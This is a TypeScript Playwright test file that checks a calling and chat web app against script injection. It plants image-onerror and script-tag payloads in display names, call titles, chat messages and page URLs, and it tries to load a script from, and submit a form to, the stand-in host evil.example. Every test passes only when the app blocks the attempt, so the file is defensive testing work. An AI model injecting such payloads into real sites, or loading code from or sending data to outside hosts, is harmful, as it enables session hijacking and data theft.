// Attacks on what people look at, in a real browser with the app as it is served: script in everything that others may
// name, and script that got into the page all the same.
import type { Page } from 'playwright-core';
import type { Attack } from './attack.ts';
import { type Mallory, mallorysPerson, media } from './mallory.ts';
import type { World } from './world.ts';

/** Runs where it is taken for markup, whatever it is put into. */
const markup = `<img src=x onerror="document.documentElement.dataset.owned=1"><script>document.documentElement.dataset.owned=1</script>`;

/** What became of the script: it is on the page as text, and only so. */
async function fate(page: Page, text = markup): Promise<string> {
  await page.getByText(text, { exact: false }).first().waitFor();
  const owned = await page.evaluate(() => {
    const found = (root: Document | ShadowRoot): boolean =>
      root.querySelector('img[src="x"]') !== null ||
      [...root.querySelectorAll('*')].some(({ shadowRoot }) => shadowRoot !== null && found(shadowRoot));
    return document.documentElement.dataset.owned !== undefined || found(document);
  });
  return owned ? 'it ran, or was taken for markup' : 'shown as text';
}

type Made = ReturnType<Mallory['conversation']>;
const erinIn = ({ erin }: World) => {
  const { address, name, company } = erin.person;
  return { address, name, company };
};

/** Mallory's events, and one more after them. */
function more({ id, events }: Made, body: Readonly<Record<string, unknown>>): Made {
  return { id, events: [...events, { conversation: id, n: events.length + 1, at: Date.now(), body }] };
}

async function deliver(world: World, { id, events }: Made): Promise<void> {
  const line = await world.mallory.link();
  const { code } = await line.say('conversation.deliver', { conversation: id, events });
  if (code !== 'done') throw new Error(code);
}

/** As much of it as a name may hold. */
const short = `<img src=x onerror="document.documentElement.dataset.owned=1">`;

/** Something in a call of Mallory's that rings on Erin's page. */
function ringing(name: string, change: Parameters<Mallory['conversation']>[1]): Attack {
  return {
    name: `script in ${name}`,
    by: 'another provider',
    refusedWith: 'shown as text',
    async attempt(world) {
      const page = await world.erin.page();
      const made = world.mallory.conversation([erinIn(world)], change);
      await deliver(world, made);
      const outcome = await fate(page, short);
      await deliver(world, more(made, { type: 'call-ended', reason: 'hung-up' }));
      await page.getByTestId('incoming').waitFor({ state: 'detached' });
      return outcome;
    },
  };
}

/** Tries something in the page, as script would that got in there. */
function inside(name: string, refusedWith: string, act: (page: Page) => Promise<string>): Attack {
  return {
    name,
    by: 'another web site',
    refusedWith,
    attempt: async (world) => act(await world.erin.page()),
  };
}

export const pageAttacks: readonly Attack[] = [
  ringing('a display name', { caller: { ...mallorysPerson, name: short } }),
  ringing('a call’s title', { title: short }),
  {
    name: 'script in a chat message',
    by: 'another provider',
    refusedWith: 'shown as text',
    async attempt(world) {
      const page = await world.erin.page();
      const made = world.mallory.conversation([erinIn(world)]);
      await deliver(world, made);
      await page.getByTestId('accept').click();
      const line = await world.mallory.link();
      const accepted = await line.toldOf(
        'conversation.command',
        (p) => p.conversation === made.id && (p.command as { type: string }).type === 'accept',
      );
      const { device } = accepted.command as { device: string };
      const joined = more(made, { type: 'joined', address: world.erin.person.address, device, media });
      const said = more(joined, { type: 'message', by: mallorysPerson.address, text: markup });
      await deliver(world, said);
      await page.getByTestId('chat-open').click();
      const outcome = await fate(page);
      await deliver(world, more(said, { type: 'call-ended', reason: 'hung-up' }));
      await page.getByTestId('call-ended-close').click();
      return outcome;
    },
  },
  {
    name: 'script in the address of the page',
    by: 'another web site',
    refusedWith: 'nothing of it',
    async attempt(world) {
      const page = await world.erin.page();
      const query = new URLSearchParams({ error: markup, accounts: markup });
      await page.goto(`${world.erin.person.origin}/?${query}#${encodeURIComponent(markup)}`);
      await page.getByTestId('sign-in-error').waitFor();
      const owned = await page.evaluate(() => document.documentElement.dataset.owned !== undefined);
      await page.goto(world.erin.person.origin);
      await page.getByTestId('self-address').first().waitFor();
      return owned ? 'it ran' : 'nothing of it';
    },
  },
  inside('inline script that got into the page', 'kept from running', async (page) => {
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.documentElement.dataset.owned = 1';
      document.head.append(script);
      return document.documentElement.dataset.owned !== undefined;
    });
    return ran ? 'it ran' : 'kept from running';
  }),
  inside('script from another server in the page', 'kept from loading', (page) =>
    page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const script = document.createElement('script');
          document.addEventListener('securitypolicyviolation', () => resolve('kept from loading'), { once: true });
          script.onload = () => resolve('it ran');
          script.src = 'https://evil.example/script.js';
          document.head.append(script);
        }),
    ),
  ),
  inside('a form that sends what is typed elsewhere', 'kept from sending', (page) =>
    page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const form = document.createElement('form');
          document.addEventListener('securitypolicyviolation', () => resolve('kept from sending'), { once: true });
          form.action = 'https://evil.example/';
          form.target = '_blank';
          document.body.append(form);
          setTimeout(() => resolve('sent'), 3000);
          form.submit();
        }),
    ),
  ),
];
